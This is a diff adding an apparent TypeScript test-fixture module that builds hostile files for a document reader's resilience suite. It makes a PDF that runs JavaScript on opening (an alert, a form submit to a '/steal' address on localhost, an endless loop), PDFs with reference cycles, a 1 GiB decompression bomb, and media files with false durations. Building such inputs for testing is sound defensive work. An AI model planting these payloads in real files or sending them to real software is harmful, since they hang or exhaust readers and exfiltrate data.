@@ -1,0 +1,206 @@
+import { createDeflate, deflateSync, gzipSync } from "node:zlib";
+
+/**
+ * Files built to hurt a reader: made byte by byte here, so each attack is exactly what its name
+ * says and nothing else. Used by the resilience suite.
+ */
+
+/**
+ * A PDF written by hand from object bodies (numbered from 1 in order), with a correct
+ * cross-reference table unless the trailer is told otherwise.
+ */
+export function rawPdf(
+  objects: (string | Buffer)[],
+  trailer: { root?: number; extra?: string } = {},
+): Buffer {
+  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
+  let offset = parts[0]!.length;
+  const offsets: number[] = [];
+  objects.forEach((body, i) => {
+    offsets.push(offset);
+    const piece = Buffer.concat([
+      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
+      typeof body === "string" ? Buffer.from(body, "latin1") : body,
+      Buffer.from("\nendobj\n", "latin1"),
+    ]);
+    parts.push(piece);
+    offset += piece.length;
+  });
+  const xref =
+    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
+    offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("");
+  parts.push(
+    Buffer.from(
+      `${xref}trailer\n<< /Size ${objects.length + 1} /Root ${trailer.root ?? 1} 0 R ${trailer.extra ?? ""} >>\n` +
+        `startxref\n${offset}\n%%EOF\n`,
+      "latin1",
+    ),
+  );
+  return Buffer.concat(parts);
+}
+
+/** A stream object's body (dictionary and bytes). */
+export function pdfStream(data: Buffer, dictionary = ""): Buffer {
+  return Buffer.concat([
+    Buffer.from(`<< /Length ${data.length} ${dictionary} >>\nstream\n`, "latin1"),
+    data,
+    Buffer.from("\nendstream", "latin1"),
+  ]);
+}
+
+const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
+const textOps = (text: string) => `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;
+
+/** A one-page PDF whose catalogue runs JavaScript on opening and whose page says `text`. */
+export function pdfWithJavaScript(text: string): Buffer {
+  return rawPdf([
+    "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R " +
+      "/AA << /O 5 0 R >> >>",
+    pdfStream(Buffer.from(textOps(text), "latin1")),
+    "<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal'); while(true){}) >>",
+    FONT,
+  ]);
+}
+
+/** A PDF whose page tree is its own child: walking it never ends unless the reader notices. */
+export function pdfWithPageTreeCycle(): Buffer {
+  return rawPdf([
+    "<< /Type /Catalog /Pages 2 0 R >>",
+    "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>",
+    "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 999999 >>",
+  ]);
+}
+
+/** A PDF whose stream length refers to itself, and whose trailer's /Prev points at its own table. */
+export function pdfWithReferenceLoops(): Buffer {
+  const pdf = rawPdf([
+    "<< /Type /Catalog /Pages 2 0 R >>",
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources 5 0 R >>",
+    "<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
+    "5 0 R",
+  ]);
+  // The cross-reference table's own offset, as its /Prev: a loop for a reader following history.
+  const text = pdf.toString("latin1");
+  const start = text.lastIndexOf("startxref\n") + "startxref\n".length;
+  const xrefAt = Number.parseInt(text.slice(start), 10);
+  return Buffer.from(text.replace("/Root 1 0 R", `/Root 1 0 R /Prev ${xrefAt}`), "latin1");
+}
+
+/** Deflates `size` bytes of `fill` without holding them: the input is fed a megabyte at a time. */
+async function deflateRepeated(prefix: Buffer, size: number, fill: number): Promise<Buffer> {
+  const deflate = createDeflate({ level: 9 });
+  const out: Buffer[] = [];
+  deflate.on("data", (c: Buffer) => out.push(c));
+  const done = new Promise<void>((resolve, reject) => {
+    deflate.on("end", resolve);
+    deflate.on("error", reject);
+  });
+  deflate.write(prefix);
+  const chunk = Buffer.alloc(1024 * 1024, fill);
+  for (let left = size; left > 0; left -= chunk.length) {
+    if (!deflate.write(left >= chunk.length ? chunk : chunk.subarray(0, left))) {
+      await new Promise((r) => deflate.once("drain", r));
+    }
+  }
+  deflate.end();
+  await done;
+  return Buffer.concat(out);
+}
+
+/**
+ * A PDF whose one page's content inflates to `inflatedBytes` (default 1 GiB) of blank space after
+ * a line of text, compressed twice so the file stays a few kilobytes: a decompression bomb.
+ */
+export async function pdfFlateBomb(inflatedBytes = 1024 ** 3): Promise<Buffer> {
+  const inner = await deflateRepeated(Buffer.from(`${textOps("Bomb")}\n`, "latin1"), inflatedBytes, 0x20);
+  // Two FlateDecode passes: the first gives the inner deflate stream, the second the page.
+  const content = deflateSync(inner, { level: 9 });
+  return rawPdf([
+    "<< /Type /Catalog /Pages 2 0 R >>",
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
+    pdfStream(content, "/Filter [/FlateDecode /FlateDecode]"),
+    FONT,
+  ]);
+}
+
+/** A ZIP archive (one stored entry) whose first bytes are a ZIP's, as a .docx or a disguised archive is. */
+export function zipArchive(name: string, content: Buffer): Buffer {
+  const nameBytes = Buffer.from(name, "latin1");
+  const local = Buffer.alloc(30);
+  local.writeUInt32LE(0x04034b50, 0);
+  local.writeUInt16LE(20, 4);
+  local.writeUInt32LE(content.length, 18);
+  local.writeUInt32LE(content.length, 22);
+  local.writeUInt16LE(nameBytes.length, 26);
+  const central = Buffer.alloc(46);
+  central.writeUInt32LE(0x02014b50, 0);
+  central.writeUInt16LE(20, 4);
+  central.writeUInt16LE(20, 6);
+  central.writeUInt32LE(content.length, 20);
+  central.writeUInt32LE(content.length, 24);
+  central.writeUInt16LE(nameBytes.length, 28);
+  const localSize = local.length + nameBytes.length + content.length;
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(1, 8);
+  end.writeUInt16LE(1, 10);
+  end.writeUInt32LE(central.length + nameBytes.length, 12);
+  end.writeUInt32LE(localSize, 16);
+  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
+}
+
+/** A gzip of `content`. */
+export function gzipped(content: Buffer): Buffer {
+  return gzipSync(content);
+}
+
+/**
+ * A WAV that says its data runs for `claimedSeconds` (16 kHz mono, 16-bit) and holds one second of
+ * silence: a recording with an absurd declared duration.
+ */
+export function wavClaiming(claimedSeconds: number): Buffer {
+  const samples = Buffer.alloc(32_000);
+  const header = Buffer.alloc(44);
+  const claimed = Math.min(0xffffffff - 36, Math.round(claimedSeconds * 32_000));
+  header.write("RIFF", 0, "latin1");
+  header.writeUInt32LE(36 + claimed, 4);
+  header.write("WAVEfmt ", 8, "latin1");
+  header.writeUInt32LE(16, 16);
+  header.writeUInt16LE(1, 20);
+  header.writeUInt16LE(1, 22);
+  header.writeUInt32LE(16_000, 24);
+  header.writeUInt32LE(32_000, 28);
+  header.writeUInt16LE(2, 32);
+  header.writeUInt16LE(16, 34);
+  header.write("data", 36, "latin1");
+  header.writeUInt32LE(claimed, 40);
+  return Buffer.concat([header, samples]);
+}
+
+/**
+ * An MP4 whose movie and track headers claim `claimedSeconds`, whatever its frames hold: every
+ * mvhd, tkhd and mdhd duration is rewritten in place (version 0 boxes, as ffmpeg writes them).
+ */
+export function mp4Claiming(mp4: Buffer, claimedSeconds: number): Buffer {
+  const out = Buffer.from(mp4);
+  const patch = (box: string, timescaleAt: number | null, durationAt: number) => {
+    for (let i = out.indexOf(box, 0, "latin1"); i >= 0; i = out.indexOf(box, i + 4, "latin1")) {
+      const body = i + 4;
+      if (out[body] !== 0) continue; // version 1 boxes hold 64-bit times: not written by ffmpeg here
+      // tkhd has no timescale of its own: it counts in the movie's (mvhd's).
+      const timescale = timescaleAt === null ? movieTimescale : out.readUInt32BE(body + timescaleAt);
+      out.writeUInt32BE(Math.min(0xffffffff, Math.round(claimedSeconds * timescale)), body + durationAt);
+    }
+  };
+  const mvhd = out.indexOf("mvhd", 0, "latin1");
+  if (mvhd < 0) throw new Error("no mvhd box: not an MP4");
+  const movieTimescale = out.readUInt32BE(mvhd + 4 + 12);
+  patch("mvhd", 12, 16);
+  patch("tkhd", null, 20);
+  patch("mdhd", 12, 16);
+  return out;
+}
